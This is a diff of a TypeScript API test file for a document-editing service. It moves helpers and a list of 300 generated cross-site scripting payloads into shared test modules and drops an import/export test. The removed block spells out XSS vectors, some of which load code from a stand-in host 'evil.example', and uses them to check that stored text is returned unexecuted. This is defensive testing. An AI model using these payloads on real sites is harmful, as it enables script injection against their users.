@@ -7,8 +7,10 @@ import {
   documentTaken,
   documentTrashed,
   unknownDocument,
-  unreadableFile,
 } from './refusals.ts'
+
+import { payloads } from './testing/payloads.ts'
+import { type Grant, personOf } from './testing/person-of.ts'
 
 let api: ApiUnderTest
 beforeAll(async () => {
@@ -16,22 +18,8 @@ beforeAll(async () => {
 })
 afterAll(async () => api.close())
 
-const limits = { kind: null, language: null, branch: null }
-
 /** Somebody at the desk who asks. */
-async function person(...grants: readonly { role: string; kind?: string; language?: string }[]) {
-  const roles = grants.map((grant) => ({ ...limits, ...grant }))
-  const { headers } = await signInPerson(api, roles.length === 0 ? undefined : roles)
-  const get = async (path: string, query: Record<string, string> = {}) => {
-    const answer = await api.send({ url: `/v1/desk/${path}?${new URLSearchParams(query)}`, headers })
-    return { status: answer.statusCode, ...answer.json() }
-  }
-  const post = async (path: string, body: unknown) => {
-    const answer = await api.post(`/v1/desk/${path}`, body, headers)
-    return { status: answer.statusCode, ...answer.json() }
-  }
-  return { get, post }
-}
+const person = (...grants: readonly Grant[]) => personOf(api, ...grants)
 
 const item = 'news/wuhan-phase-two'
 const title = ['title', 'en-US']
@@ -126,25 +114,6 @@ describe('documents that ship', () => {
     await post('documents/save', { name, base: 1, patches: [replace(title, `\ufeff${held}\u200b`)] })
     expect((await get('documents/open', { name })).data.seed.title['en-US']).toBe(held)
   })
-
-  it('are written as files that are read as the same', async () => {
-    const { get, post } = await person({ role: 'editor' })
-    const name = 'page/products/express'
-    const { data } = await post('documents/export', { names: [name] })
-    expect(data.files[0].file).toBe('pages/products/express.yaml')
-    const { text } = data.files[0]
-    expect((await post('documents/import', { name, text, base: 0 })).data).toEqual({ revision: 0 })
-    const broken = await post('documents/import', {
-      name,
-      text: text.replace('kind: service', 'kind: none'),
-      base: 0,
-    })
-    expect([broken.status, broken.code]).toEqual([422, unreadableFile.code])
-    expect(broken.problems).toEqual([
-      { line: 1 + text.split('\n').indexOf('kind: service'), message: expect.stringMatching(/^kind: /) },
-    ])
-    expect((await get('documents/open', { name })).data.revision).toBe(0)
-  })
 })
 
 describe('who changes what somebody else changed', () => {
@@ -189,7 +158,6 @@ describe('refused', () => {
     ],
     ['what is in no trash, deleted', 'delete', { name: item }, documentStays.code],
     ['a prototype', 'save', { name: item, base: 0, patches: [replace(['__proto__', 'x'], 1)] }, 1400],
-    ['a file that is none', 'import', { name: item, text: ': :', base: 0 }, unreadableFile.code],
     ['a place behind the end', 'save', { name: item, base: 0, patches: [replace(['body', 999], 1)] }, 1400],
     [
       'too many patches',
@@ -254,34 +222,6 @@ describe('beside the texts', () => {
   })
 })
 
-/** What somebody might try to have run, in ways that filters have let through. */
-const payloads = Array.from({ length: 300 }, (_, n) => {
-  const call = `alert(${n})`
-  const forms = [
-    `<script>${call}</script>`,
-    `<ScRiPt src=//evil.example/${n}></sCrIpT>`,
-    `"><img src=x onerror=${call}>`,
-    `'><svg/onload=${call}>`,
-    `<svg><script>${call}</script></svg>`,
-    `javascript:${call}`,
-    `jav&#x09;ascript:${call}`,
-    `data:text/html;base64,PHNjcmlwdD5hbGVydCg${n}`,
-    `</title><script>${call}</script>`,
-    `</textarea><iframe srcdoc="<script>${call}</script>">`,
-    `{{constructor.constructor('${call}')()}}`,
-    `\${${call}}`,
-    `<!--<img src="--><img src=x onerror=${call}//">`,
-    `<a href="javascript:${call}">x</a>`,
-    `<style>@import'//evil.example/${n}';</style>`,
-    `<math><mtext></form><form><mglyph><style></math><img src onerror=${call}>`,
-    `<body onload=${call}>`,
-    `<details open ontoggle=${call}>`,
-    `]]><script>${call}</script>`,
-    `&lt;script&gt;${call}&lt;/script&gt;`,
-  ]
-  return forms[n % forms.length] ?? ''
-})
-
 it('300 scripts in texts are kept and given back as the texts they are', async () => {
   const { get, post } = await person({ role: 'editor' })
   const { name } = (await post('documents', { kind: 'news', key: 'scripts', like: item })).data
@@ -297,8 +237,8 @@ it('300 scripts in texts are kept and given back as the texts they are', async (
   })
   expect(opened.headers['content-type']).toMatch(/^application\/json/)
   expect(opened.json().data.seed.body).toEqual(body)
-  const file = (await post('documents/export', { names: [name] })).data.files[0]
-  expect((await post('documents/import', { name, text: file.text, base: 2 })).code).toBe(1)
+  const { files } = (await post('documents/export', { names: [name] })).data
+  expect((await post('documents/import', { name, files, base: 2 })).code).toBe(1)
   expect((await get('documents/open', { name })).data).toMatchObject({ revision: 2, seed: { body } })
   const listed = await get('documents', { text: 'alert(0)' })
   expect(listed.data.documents[0].title['en-US']).toBe(payloads[0])
